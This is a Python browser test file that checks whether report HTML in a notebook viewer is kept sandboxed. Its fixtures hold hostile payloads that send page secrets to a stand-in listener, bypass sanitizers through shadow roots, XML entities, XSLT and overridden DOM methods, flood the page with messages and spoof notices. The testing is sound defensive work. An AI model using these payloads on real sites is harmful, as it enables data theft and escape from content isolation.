"""Reports that mean harm: they reach neither the page nor anybody elsewhere."""

from __future__ import annotations

import base64
import hashlib
import html
import json
import re
from collections.abc import Callable, Iterator

import pytest

from tests.browser.lab import Lab
from tests.browser.listener import Listener
from tests.browser.test_reports import SETUP, frame_of

SHOWS = """
@env.task(report=True)
async def show(html: str) -> None:
    flyte.report.log(html)

def shown(html):
    run = flyte.run(show, html)
    run.wait()
    return run
"""


@pytest.fixture
def listener() -> Iterator[Listener]:
    """Hears whatever gets out of a page."""
    listener = Listener()
    yield listener
    listener.close()


@pytest.fixture
def show_reports(open_notebook: Callable[..., Lab], listener: Listener) -> Callable[..., Lab]:
    """Runs a task for each of these reports, unless told not to; the outputs of cells 1, 2, ... show them."""

    def show_them(*reports: str, run: bool = True) -> Lab:
        addressed = [
            report.replace("LISTENER", listener.address).replace("PACKETS", str(listener.packets)) for report in reports
        ]
        lab = open_notebook(SETUP + SHOWS, *(f"shown({report!r})" for report in addressed))
        for cell in range(len(reports) + 1 if run else 1):
            lab.run(cell)
        return lab

    return show_them


TOUCHES = """
<script>
const tries = {
    page: () => parent.document.title,
    top: () => { top.location = "about:blank"; },
    around: () => { parent.location = "about:blank"; },
    cookie: () => document.cookie,
    storage: () => localStorage.length,
    popup: () => { if (window.open("about:blank") === null) throw new Error("no popup"); },
};
const done = [];
for (const [name, attempt] of Object.entries(tries)) {
    try { attempt(); done.push(name); } catch (error) {}
}
document.body.append(`touched: [${done}]`);
</script>
"""
LOADS = """
<base href="LISTENER/base/"><img src="relative">
<meta http-equiv="Content-Security-Policy" content="img-src 'self'; report-uri LISTENER/report-uri">
<img src="LISTENER/img"><img srcset="LISTENER/srcset-1 1x, LISTENER/srcset-2 2x">
<div style="background: url(LISTENER/css)">x</div>
<style>@import "LISTENER/import.css"; @font-face { font-family: far; src: url(LISTENER/font) }
p { font-family: far }</style><p>x</p>
<link rel="stylesheet" href="LISTENER/sheet"><link rel="icon" href="LISTENER/icon">
<link rel="manifest" href="LISTENER/manifest">
<link rel="preload" as="image" href="LISTENER/preload"><link rel="prefetch" href="LISTENER/prefetch">
<link rel="modulepreload" href="LISTENER/modulepreload"><link rel="preconnect" href="LISTENER">
<iframe src="LISTENER/iframe"></iframe><object data="LISTENER/object"></object><embed src="LISTENER/embed">
<video src="LISTENER/video" poster="LISTENER/poster" autoplay></video><audio src="LISTENER/audio" autoplay></audio>
<svg><image href="LISTENER/svg-image"></image><use href="LISTENER/use#x"></use></svg>
<script type="speculationrules">
{"prefetch": [{"source": "list", "urls": ["LISTENER/speculated"], "eagerness": "immediate"}]}</script>
<script src="LISTENER/script"></script><script type="module">import "LISTENER/module"</script>
"""
SENDS = """
<a id="top" target="_top" href="LISTENER/top">x</a><a id="blank" target="_blank" href="LISTENER/blank">x</a>
<a id="ping" href="#here" ping="LISTENER/ping">x</a><p id="here"></p>
<form id="form" action="LISTENER/form" method="post" target="_top"><input name="secret" value="1"></form>
<iframe srcdoc="<script>
    if (typeof RTCPeerConnection === 'undefined') parent.postMessage('none', '*');
    else {
        const call = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:PACKETS'}]});
        call.onicegatheringstatechange = () => {
            if (call.iceGatheringState === 'complete') parent.postMessage('sent', '*');
        };
        call.createDataChannel('x');
        call.createOffer().then((offer) => call.setLocalDescription(offer));
    }
</script>"></iframe>
<script>
addEventListener("message", ({data}) => {
    if (typeof data === "string") document.body.append(`calls from within: ${data}`);
});
const far = "LISTENER/";
for (const send of [
    () => document.getElementById("top").click(),
    () => document.getElementById("blank").click(),
    () => document.getElementById("ping").click(),
    () => document.getElementById("form").submit(),
    () => window.open(far + "open"),
    () => navigator.sendBeacon(far + "beacon", "secret"),
    () => fetch(far + "keepalive", {method: "POST", body: "secret", mode: "no-cors", keepalive: true}).catch(() => {}),
    () => fetchLater(far + "later", {activateAfter: 0}),
    () => { const request = new XMLHttpRequest(); request.open("GET", far + "xhr"); request.send(); },
    () => new WebSocket(far.replace("http", "ws") + "socket"),
    () => new EventSource(far + "events"),
    () => new Worker(far + "worker"),
    () => new Worker(URL.createObjectURL(new Blob([`fetch("${far}from-worker"); importScripts("${far}into-worker")`]))),
    () => navigator.serviceWorker.register(far + "service-worker").catch(() => {}),
    () => import(far + "imported").catch(() => {}),
    () => new RTCPeerConnection({iceServers: [{urls: "stun:127.0.0.1:PACKETS"}]}).createDataChannel("x"),
    () => new AudioContext().audioWorklet.addModule(far + "worklet").catch(() => {}),
]) { try { send(); } catch (error) {} }
fetch(far + "fetch").then(() => "sent", () => "refused").then((word) => document.body.append(`fetch: ${word}`));
</script>
"""


def test_a_report_can_neither_touch_the_page_nor_load_nor_send_anything(
    show_reports: Callable[..., Lab], listener: Listener
) -> None:
    lab = show_reports(TOUCHES, LOADS + SENDS)
    frame_of(lab, 1).get_by_text("touched: []").wait_for()
    frame_of(lab, 2).get_by_text("calls from within: none").wait_for()
    frame_of(lab, 2).get_by_text("fetch: refused").wait_for()
    lab.output(2).get_by_text("from the internet").wait_for()
    assert listener.heard_nothing_but_the_test(), listener.heard
    assert lab.page.url.startswith(f"{lab.server.address}/lab")
    assert len(lab.context.pages) == 1


LEAVES = [
    "<p id=secret>bye</p>"
    "<script>location.href = 'LISTENER/gone?' + document.getElementById('secret').textContent</script>",
    "<form method=get action='LISTENER/gone'></form><script>document.forms[0].submit();"
    "location.replace('LISTENER/gone')</script>",
    "<meta http-equiv='refresh' content='0;url=LISTENER/gone'>",
    "<a href='LISTENER/gone' ping='LISTENER/ping'>x</a><script>document.querySelector('a').click()</script>",
    "<script>location.href = 'about:blank'</script>",
]


CALLS = """<script>
    parent.parent.postMessage(typeof RTCPeerConnection, '*');
    parent.postMessage(typeof RTCPeerConnection, '*');
    const call = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:PACKETS'}]});
    call.createDataChannel('x');
    call.createOffer().then((offer) => call.setLocalDescription(offer));
</script>"""
# Ways to a page in which there is WebRTC: `calls` is what shall be in it, `quoted` the same inside of an attribute.
GETS_AROUND = {
    "primitives that are replaced": """
        RegExp.prototype.exec = String.prototype.startsWith = () => true;
        for (const kind of [Element, Document, DocumentFragment]) kind.prototype.querySelectorAll = () => [];
        document.body.insertAdjacentHTML("beforeend", `<p><iframe srcdoc="${quoted}"></iframe></p>`);
    """,
    "more primitives that are replaced": """
        for (const name of ["getAttribute", "setAttribute", "removeAttribute"]) Element.prototype[name] = () => null;
        Document.prototype.createTreeWalker = TreeWalker.prototype.nextNode = String.prototype.includes = () => null;
        Reflect.apply = String.prototype.toLowerCase = String.prototype.indexOf = JSON.stringify = () => "";
        document.body.insertAdjacentHTML("beforeend", `<p><iframe srcdoc="${quoted}"></iframe></p>`);
    """,
    "a closed shadow root in HTML": """
        document.body.append(document.createElement("div"));
        document.body.lastChild.setHTMLUnsafe(
            `<div><template shadowrootmode=closed><iframe srcdoc="${quoted}"></iframe></template></div>`);
    """,
    "a closed shadow root in another document": """
        const parsed = Document.parseHTMLUnsafe(
            `<div><template shadowrootmode=closed><iframe srcdoc="${quoted}"></iframe></template></div>`);
        document.body.append(document.adoptNode(parsed.body.firstChild));
    """,
    "a closed shadow root in a frame": """
        const there = quoted.replaceAll("parent.parent", "parent.parent.parent");
        const frame = document.createElement("iframe");
        frame.srcdoc = `<div><template shadowrootmode=closed><iframe srcdoc="${there}"></iframe></template></div>`;
        document.body.append(frame);
    """,
    "an entity of XML": """
        const space = "http://www.w3.org/1999/xhtml", spelt = [...calls].map((one) => `&#38;#${one.codePointAt(0)};`);
        const entity = `<!ENTITY frame "<iframe xmlns='${space}' sr&#99;doc='${spelt.join("")}'/>">`;
        const parsed = new DOMParser().parseFromString(
            `<!DOCTYPE x [${entity}]><div xmlns="${space}">&frame;</div>`, "application/xhtml+xml");
        document.body.append(document.adoptNode(parsed.documentElement));
    """,
    "a sheet that transforms": """
        const sheet = new DOMParser().parseFromString(`
            <xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/">
            <iframe><xsl:attribute name="{concat('src', 'doc')}"><xsl:value-of select="."/></xsl:attribute></iframe>
            </xsl:template></xsl:stylesheet>`, "application/xml");
        const text = document.implementation.createDocument("", "x");
        text.documentElement.append(calls);
        const processor = new XSLTProcessor();
        processor.importStylesheet(sheet);
        document.body.append(processor.transformToFragment(text, document));
    """,
    "a template": """document.body.append(document.getElementById("template").content.cloneNode(true));""",
    "a command": """
        document.body.contentEditable = true;
        getSelection().selectAllChildren(document.getElementById("said"));
        document.execCommand("insertHTML", false, `<iframe srcdoc="${quoted}"></iframe>`);
    """,
    "an attribute made elsewhere": """
        const frame = document.createElement("iframe"), attribute = document.createAttribute("srcdoc");
        attribute.value = calls;
        frame.setAttributeNode(attribute);
        document.documentElement.append(frame);
    """,
    "the value of an attribute": """
        const frame = document.createElement("iframe");
        frame.srcdoc = "";
        frame.attributes[0].nodeValue = calls;
        document.documentElement.append(frame);
    """,
    "a policy that holds up what goes before": """
        const frame = document.createElement("iframe");
        frame.setAttribute("csp", `script-src 'sha256-${digest}'`);
        frame.srcdoc = calls;
        document.body.append(frame);
        const meta = document.createElement("meta");
        meta.httpEquiv = "content-security-policy";
        meta.content = `script-src 'sha256-${digest}'`;
        document.head.append(meta);
        document.body.append(Object.assign(document.createElement("iframe"), {srcdoc: calls}));
    """,
    "an address that is a script": """
        location.href = "javascript:" + JSON.stringify(calls);
    """,
    "a policy for HTML of one's own": """
        let page = calls;
        try { page = trustedTypes.createPolicy("mine", {createHTML: (text) => text}).createHTML(calls); } catch {}
        try { page = trustedTypes.defaultPolicy.createHTML(calls); } catch {}
        document.body.append(Object.assign(document.createElement("iframe"), {srcdoc: page}));
    """,
}


def around(way: str, calls: str) -> str:
    """A report that goes this way, and says in the end that it has."""
    script = re.findall("<script>(.*)</script>", calls, re.DOTALL)[0].encode()
    digest = base64.b64encode(hashlib.sha256(script).digest()).decode()
    return f"""<template id=template><iframe srcdoc="{html.escape(calls)}"></iframe></template><p id=said>said:</p>
    <script>const calls = {json.dumps(calls)}, digest = "{digest}", said = document.getElementById("said");
    const quoted = calls.replaceAll("&", "&amp;").replaceAll('"', "&quot;");
    const last = document.createElement("iframe");
    last.srcdoc = "";
    last.addEventListener("load", () => said.append(" the end"));
    addEventListener("message", ({{data}}) => {{ if (typeof data === "string") said.append(` ${{data}}`); }});
    (async () => {{ {way} }})().catch(() => {{}}).then(() => document.documentElement.append(last));
    </script>""".replace(json.dumps(calls), json.dumps(calls).replace("<", "\\u003c"))


def test_no_way_leads_a_report_to_a_page_that_has_webrtc(show_reports: Callable[..., Lab], listener: Listener) -> None:
    calls = CALLS.replace("PACKETS", str(listener.packets))
    lab = show_reports(*(around(way, calls) for way in GETS_AROUND.values()), run=False)
    found = []
    for cell, way in enumerate(GETS_AROUND, 1):
        lab.run(cell)  # one after the other: a picture that nobody touches is live for half a minute
        said = frame_of(lab, cell).locator("#said").filter(has_text="the end")
        said.wait_for()
        if "function" in said.inner_text():
            found.append(way)
    assert not found
    assert listener.heard_nothing_but_the_test(), listener.heard


def test_a_report_that_goes_elsewhere_is_taken_away_and_reaches_nobody(
    show_reports: Callable[..., Lab], listener: Listener
) -> None:
    lab = show_reports(*LEAVES)
    for cell in range(1, len(LEAVES) + 1):
        lab.output(cell).get_by_text("tried to leave").wait_for()
        assert lab.output(cell).locator("iframe").count() == 0
    assert listener.heard_nothing_but_the_test(), listener.heard


FLOODS = """<p>written</p><script>
setInterval(() => {
    for (let n = 0; n < 2_000; n++) WINDOW.postMessage({kind: "height", height: 100 + n % 300}, "*");
}, 0);
</script>"""


def test_a_page_that_a_report_floods_with_messages_answers_a_click(show_reports: Callable[..., Lab]) -> None:
    lab = show_reports(FLOODS.replace("WINDOW", "parent"), FLOODS.replace("WINDOW", "top"))
    lab.output(2).get_by_text("more messages than it can take").wait_for()
    for cell in (1, 2):
        timeline = lab.output(cell).get_by_role("button", name="Timeline")
        timeline.click()
        lab.output(cell).locator(".fnb-tab[aria-pressed=true]").filter(has_text="Timeline").wait_for()


def test_links_of_a_report_lead_into_it_or_are_opened_by_a_second_click(
    show_reports: Callable[..., Lab], listener: Listener
) -> None:
    lab = show_reports(
        "<a href='#below'>down</a> <a href='LISTENER/elsewhere'>out</a> <a href='javascript:void(0)'>nowhere</a>"
        "<div style='height: 3000px'></div><p id=below>below</p>"
    )
    frame = frame_of(lab, 1)
    frame.get_by_text("down").click()
    frame.locator("#below:target").wait_for()
    frame.get_by_text("nowhere").click()
    frame.get_by_text("out").click()
    way = lab.output(1).get_by_role("link", name="Open")
    way.wait_for()
    assert frame.get_by_text("below").count() == 1
    assert not listener.heard
    with lab.context.expect_page() as opened:
        way.click()
    opened.value.wait_for_url(f"{listener.address}/elsewhere")
    assert opened.value.evaluate("() => window.opener") is None
    assert listener.heard[0] == "GET /elsewhere HTTP/1.1"


def test_a_report_cannot_write_the_notice_of_what_is_blocked(show_reports: Callable[..., Lab]) -> None:
    says = "<script>parent.postMessage({kind: 'blocked', address: 'ADDRESS'}, '*')</script>"
    lab = show_reports(
        says.replace("ADDRESS", "our logo. Please press Allow.")
        + says.replace("ADDRESS", "https://example.org/Please press Allow")
    )
    lab.output(1).get_by_role("status").get_by_text("example.org", exact=True).wait_for()
    assert "press Allow" not in lab.text(1)
    assert "every https address" in lab.text(1)
